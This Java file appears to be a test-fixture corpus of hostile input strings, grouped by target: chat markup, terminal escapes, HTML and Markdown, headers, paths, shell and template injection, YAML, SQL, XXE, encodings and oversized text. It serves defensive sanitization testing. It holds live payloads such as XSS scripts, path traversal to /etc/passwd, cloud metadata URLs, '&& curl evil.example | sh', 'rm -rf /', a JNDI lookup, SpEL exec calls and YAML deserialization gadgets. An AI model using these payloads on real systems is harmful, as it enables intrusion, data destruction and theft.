package dev.utakata.world;

import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;

/**
 * What people who mean harm write where a text is asked for: the one table of it, for every way in and every way out.
 */
public final class HostileTexts {

    private static final List<HostileText> TABLE = new ArrayList<>();

    static {
        attacking(
                "Chatwork",
                "[toall]",
                "[TOALL]",
                "[To:1]",
                "[to:1] boss",
                "[rp aid=1 to=1-1]",
                "[/info]",
                "[/title][toall]",
                "[/INFO][To:1]",
                "[info][title]x[/title]y[/info]",
                "[[To:1]]",
                "[[[toall]]]",
                "[To:[To:1]]",
                "[code][/code][toall]",
                "[qt][qtmeta aid=1 time=1]x[/qt]",
                "[picon:1]",
                "[piconname:1]",
                "[hr]",
                "[url]javascript:alert(1)[/url]",
                "［toall］",
                "［[To:1]］",
                "feature/[toall]",
                "fix-[To:1]-now");
        attacking(
                "readers and terminals",
                "\u202E]llaot[",
                "\u2066[toall]\u2069",
                "\u200F[To:1]",
                "[\u200Bto\u200Ball]",
                "[to\u2060all]",
                "\uFEFF[/info]",
                "\u001B[31m[toall]\u001B[0m",
                "\u001B]8;;https://evil.example\u0007link",
                "\u009B31m[To:1]",
                "[to\r\nall]",
                "one\r\n[/info]\r\n[toall]",
                "a\u0000[toall]\u0000",
                "\u0085[toall]\u2028[To:1]\u2029",
                "octocat] [To:1",
                "\u200D\u2060\u00AD invisible \u180E\uFEFF",
                "\u0430dmin of \u0430cme",
                "\uDB40\uDC41\uDB40\uDC42 tags",
                "\u001B]0;title\u0007\u001B[2J\u001B[1;1H",
                "\u001Bc\u009D8;;x\u009C",
                "a\u0300\u0301\u0302\u0303".repeat(50));
        attacking(
                "Markdown and HTML",
                "octo-cat[bot]",
                "@team",
                "@acme/everybody",
                "mail@\u200Bteam @all",
                "&#64;acme/team",
                "&commat;acme/team",
                "![image](https://evil.example/x.png)",
                "[click](https://evil.example)",
                "\\[click](https://evil.example)",
                "\\\\[click](javascript:alert(1))",
                "[ref]: https://evil.example",
                "<img src=x onerror=alert(1)>",
                "<script>alert(1)</script>",
                "&lt;b&gt;<!-- hidden",
                "</details></summary>",
                "```\n@team\n```",
                "~~~ `code` ``two``",
                "**bold** *stars*",
                "<https://evil.example>",
                "<a href=\"https://evil.example\">x</a>",
                "<!-- utakata:status -->",
                "<!-- utakata:environment shop-pr-1 -->\n/test-tag",
                "| a | b |\n|---|---|\n| x | y |",
                "# heading\n\n> quote\n\n- [ ] task",
                "acme/shop#1 #1 GH-1 0123456789abcdef0123456789abcdef01234567",
                "x</summary></details><details><summary>y",
                "https://evil.example/?a=[b](c) www.evil.example",
                "$$\\href{javascript:alert(1)}{x}$$ :octocat:");
        attacking(
                "lines and headers",
                "a\nb",
                "a\r\nb",
                "x\r\nSet-Cookie: a=b\r\n\r\n<html>",
                "fix\n\nUtakata-Base: 0123456789abcdef0123456789abcdef01234567",
                "fix\n\nSigned-off-by: monalisa <monalisa@example.com>\nCo-authored-by: x <x@example.com>",
                "2026-01-05T09:00:00.000Z  INFO 1 --- [utakata] [main] d.u.Forged : all is well",
                "x\n2026-01-05T09:00:00.000Z ERROR 1 --- [utakata] [main] d.u.Forged : all is lost",
                "a\u000Bb\u000Cc\u0085d\u2028e\u2029f",
                "::set-output name=x::y",
                "::add-mask::a\n::error::b");
        attacking(
                "paths and addresses",
                "..",
                "../../../etc/passwd",
                "..\\..\\windows\\system32",
                "....//....//etc",
                "%2e%2e%2f%2e%2e%2f",
                "..%252f..%252f",
                "..;/..;/admin",
                "/etc/passwd",
                "C:\\boot.ini",
                "\\\\evil.example\\share",
                "file:///etc/passwd",
                "http://169.254.169.254/latest/meta-data/",
                "//evil.example/x",
                "https://user:word@evil.example/",
                "evil.example#@github.com/",
                "a?b=c&d=e#f",
                "%00 %0d%0a %zz %",
                ".git/config",
                ".GIT/hooks/post-checkout",
                ".utakata",
                "environments/other/.utakata",
                "CON",
                "nul.txt",
                "aux.",
                "trailing.lock",
                "refs/heads/main",
                "a..b~1^{}:@{-1}",
                "~root/$HOME/*",
                "con\u2215..\u2215x");
        attacking(
                "programs",
                "--upload-pack=touch /tmp/x",
                "-c core.sshCommand=x",
                "--",
                "-",
                "ext::sh -c touch% /tmp/x",
                "ssh://-oProxyCommand=x/y",
                "$(touch /tmp/x)",
                "`touch /tmp/x`",
                "; rm -rf / #",
                "&& curl evil.example | sh",
                "\"; exit 1; \"",
                "'; exit 1; '",
                "$IFS$9",
                "{{ .Values.x }}",
                "${{ github.token }}",
                "${slug}",
                "$${slug}",
                "{slug}",
                "${jndi:ldap://evil.example/x}",
                "#{T(java.lang.Runtime).getRuntime().exec('x')}",
                "__${T(java.lang.Runtime)}__::.x",
                "{0} {1,number} '{'",
                "it's {0}",
                "%s %n %d %1$s",
                "${spring.datasource.password}",
                "@@{x}");
        attacking(
                "YAML",
                "&a *a",
                "*alias",
                "&anchor x",
                "!!java.net.URLClassLoader [x]",
                "!!python/object/apply:os.system [x]",
                "!!binary aGk=",
                "<<: *a",
                "a: b",
                "- a",
                "? a",
                "x\n---\napiVersion: v1\nkind: Secret",
                "...\n%YAML 1.1\n---\n",
                "|\n  x",
                ">-\n  x",
                "x # comment",
                "\"quoted\": 'x'",
                "{a: b}",
                "[a, b]",
                "yes",
                "null",
                "~",
                "1e5",
                "0x1F",
                "012",
                "1_000",
                "12:30:45",
                "2026-01-05",
                ".inf",
                "=",
                "\t tab",
                " leading",
                "x\nmetadata:\n  annotations:\n    a: b",
                "a: &a [x,x]\nb: &b [*a,*a]\nc: [*b,*b]");
        attacking(
                "SQL and JSON",
                "'; drop table environment; --",
                "' or '1'='1",
                "\\'; select pg_sleep(10); --",
                ":name ? $1 ??",
                "100%_\\",
                "\",\"admin\":true,\"x\":\"",
                "\\u0000\\ud800",
                "{\"__proto__\":{}}",
                "]]></x><!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\">]>&a;");
        attacking(
                "encodings",
                "",
                " ",
                "\u0000",
                "a\u0000b",
                "\uD800",
                "\uDC00 lone",
                "x\uD83D",
                "\uFFFE\uFFFF",
                "\uD83D\uDE00\uD83D\uDC68\u200D\uD83D\uDC69",
                "泡沫と消える",
                "\u0130\u0131\u1E9E\u017F",
                "\uFF0E\uFF0E\uFF0F");
        attacking(
                "room",
                "[toall]".repeat(9_000),
                "x".repeat(60_000),
                "[".repeat(60_000),
                "@team ".repeat(10_000),
                "泡".repeat(64),
                "\uD83D\uDE00".repeat(1_001),
                "a".repeat(1_999) + "\uD83D\uDE00" + "b".repeat(500),
                "a".repeat(499) + "\uD83D\uDE00" + "b".repeat(500),
                "\n".repeat(20_000),
                "x".repeat(1 << 20));
    }

    private HostileTexts() {}

    /**
     * One of them.
     *
     * @param attacks what it would have an effect on
     * @param number of those that attack the same
     */
    public record HostileText(String attacks, int number, String text) {

        @Override
        public String toString() {
            return attacks + " " + number;
        }
    }

    private static void attacking(String what, String... texts) {
        for (int i = 0; i < texts.length; i++) {
            TABLE.add(new HostileText(what, i + 1, texts[i]));
        }
    }

    public static Stream<HostileText> table() {
        return TABLE.stream();
    }

    public static Stream<String> all() {
        return TABLE.stream().map(HostileText::text);
    }
}
